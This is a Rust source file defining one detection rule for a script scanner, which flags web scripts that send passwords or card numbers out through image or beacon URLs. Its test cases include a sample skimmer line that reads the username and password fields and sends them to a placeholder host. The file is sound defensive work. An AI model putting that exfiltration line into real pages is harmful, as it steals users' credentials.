//! `secret-in-hidden-request`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-in-hidden-request",
    description: "The script sends a password, code or card number out in the URL of an image or a beacon.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::SecretByImage])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "b.onclick=function(){new Image().src='https://c.example/?u='+encodeURIComponent(document.getElementById('username').value)+'&p='+encodeURIComponent(document.getElementById('password').value)}",
        ],
        without: &[
            "new Image().src='https://p.example/t?u='+encodeURIComponent(location.href)",
            "navigator.sendBeacon('/t',JSON.stringify({field:'search',length:q.value.length}))",
        ],
    },
};
